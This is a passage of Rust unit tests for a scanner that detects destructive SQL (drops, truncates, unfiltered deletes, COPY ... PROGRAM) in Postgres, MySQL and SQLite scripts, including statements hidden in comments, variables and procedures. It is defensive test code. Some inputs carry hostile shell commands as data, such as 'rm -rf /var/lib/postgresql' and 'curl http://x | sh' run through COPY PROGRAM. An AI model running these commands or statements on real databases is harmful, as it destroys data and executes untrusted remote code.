            assert_eq!(s.finish(), whole, "chunk size {size}");
        }
        assert_eq!(whole.statements.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>(), ["delete_all", "drop"]);
    }

    #[test]
    fn mysql_and_sqlite() {
        assert_eq!(kinds(Dialect::MySql, "# DROP TABLE x\nDROP DATABASE shop;"), ["drop_database"]);
        assert_eq!(kinds(Dialect::MySql, "SELECT 'a\\'; DROP TABLE x'"), Vec::<String>::new());
        let s = Scanner::scan(Dialect::MySql, "source /tmp/reset.sql\nSELECT 1;");
        assert_eq!(s.directives, [Directive::Include { path: "/tmp/reset.sql".into(), relative: false }]);
        let s = Scanner::scan(Dialect::Sqlite, ".read wipe.sql\nDELETE FROM t;");
        assert_eq!(s.directives, [Directive::Include { path: "wipe.sql".into(), relative: false }]);
        assert_eq!(s.statements[0].kind, "delete_all");
        assert_eq!(kinds(Dialect::Sqlite, "SELECT 1.5; .restore main backup.db\n"), Vec::<String>::new());
        assert_eq!(kinds(Dialect::Sqlite, ".restore main backup.db\n"), ["restore"]);
    }

    #[test]
    fn statements_that_run_other_statements() {
        assert_eq!(pg("EXPLAIN ANALYZE DELETE FROM users"), ["delete_all"]);
        assert_eq!(pg("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET x = 1"), ["update_all"]);
        assert!(pg("EXPLAIN DELETE FROM users").is_empty());
        assert!(pg("EXPLAIN (ANALYZE false) DELETE FROM users").is_empty());
        assert_eq!(pg("WITH old AS (SELECT 1) DELETE FROM users"), ["delete_all"]);
        assert!(pg("WITH ids AS (SELECT id FROM t) DELETE FROM users WHERE id IN (SELECT id FROM ids)").is_empty());
        assert_eq!(pg("MERGE INTO users u USING gone g ON u.id = g.id WHEN MATCHED THEN DELETE"), ["merge_delete"]);
        assert!(pg("MERGE INTO users u USING n ON u.id = n.id WHEN MATCHED THEN UPDATE SET x = 1").is_empty());
        assert_eq!(pg("COPY users TO PROGRAM 'rm -rf /var/lib/postgresql'"), ["copy_program"]);
        assert_eq!(pg("COPY t FROM PROGRAM 'curl http://x | sh'"), ["copy_program"]);
        assert!(pg("COPY users TO '/tmp/users.csv'").is_empty());
    }

    #[test]
    fn definitions_called_in_the_same_input() {
        let f = "CREATE OR REPLACE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE users; END $$;";
        assert!(pg(f).is_empty(), "defining is not running");
        assert_eq!(pg(&format!("{f} SELECT wipe();")), ["truncate"]);
        assert_eq!(pg(&format!("{f} SELECT * FROM public.wipe();")), ["truncate"]);
        let p = "CREATE PROCEDURE purge() LANGUAGE sql AS $$ DELETE FROM orders $$; CALL purge();";
        assert_eq!(pg(p), ["delete_all"]);
        assert_eq!(pg("PREPARE nuke AS DELETE FROM users; EXECUTE nuke;"), ["delete_all"]);
        assert!(pg("PREPARE q AS SELECT * FROM users WHERE id = $1; EXECUTE q(1);").is_empty());
        let dynamic = "CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$ LANGUAGE plpgsql; SELECT f();";
        assert!(!Scanner::scan(Dialect::Postgres, dynamic).unknown.is_empty());
    }

    #[test]
    fn temporary_tables_are_the_session_own() {
        assert!(pg("CREATE TEMP TABLE scratch AS SELECT 1; DROP TABLE scratch;").is_empty());
        assert!(
            kinds(Dialect::MySql, "CREATE TEMPORARY TABLE s (id int); DROP TEMPORARY TABLE IF EXISTS s;").is_empty()
        );
        assert_eq!(pg("CREATE TEMP TABLE scratch (id int); DROP TABLE scratch, users;"), ["drop"]);
        assert_eq!(pg("DROP TABLE scratch;"), ["drop"]);
    }

    fn pg_vars(vars: &[(&str, &str)], text: &str) -> Vec<String> {
        let vars: Vec<(String, String)> = vars.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
        let mut s = Scanner::with_session(Dialect::Postgres, Session::with_vars(&vars));
        s.feed(text.as_bytes());
        s.finish().statements.iter().map(|s| s.kind.to_string()).collect()
    }

    #[test]
    fn psql_variables() {
        assert_eq!(pg_vars(&[("q", "DROP TABLE users")], ":q;"), ["drop"]);
        assert_eq!(pg_vars(&[("t", "users")], "TRUNCATE :t;"), ["truncate"]);
        assert_eq!(pg_vars(&[("t", "users")], "DELETE FROM :\"t\";"), ["delete_all"]);
        assert_eq!(pg("\\set q 'DROP TABLE users'\n:q;\n"), ["drop"]);
        assert_eq!(pg("\\set t users\nTRUNCATE :t;\n"), ["truncate"]);
        // Casts, slices and quoted text are not variables.
        assert!(pg_vars(&[("q", "DROP TABLE users")], "SELECT 1::int, ':q', arr[1:2];").is_empty());
        assert!(pg_vars(&[("id", "1")], "DELETE FROM users WHERE id = :id;").is_empty());
        // A value is not interpolated again.
        assert!(pg_vars(&[("a", ":a")], ":a;").is_empty());
    }

    fn my(text: &str) -> Vec<String> {
        kinds(Dialect::MySql, text)
    }

    #[test]
    fn mysql_script_syntax() {
        // Executable comments run.
        assert_eq!(my("/*! DROP TABLE users */;"), ["drop"]);
        assert_eq!(my("/*!50000 TRUNCATE TABLE users */;"), ["truncate"]);
        assert!(my("/* DROP TABLE users */ SELECT 1;").is_empty());
        // `--` is a comment only before whitespace.
        assert!(my("-- DROP TABLE users\nSELECT 1;").is_empty());
        assert_eq!(my("UPDATE t SET x = x--1;"), ["update_all"]);
        // DELIMITER changes where statements end; a procedure runs when called.
        let proc = "DELIMITER $$\nCREATE PROCEDURE wipe() BEGIN DELETE FROM users; END$$\nDELIMITER ;\n";
        assert!(my(proc).is_empty(), "defining is not running");
        assert_eq!(my(&format!("{proc}CALL wipe();\n")), ["delete_all"]);
        assert_eq!(my("DELIMITER //\nDROP TABLE a //\nSELECT 1 //\n"), ["drop"]);
    }
}
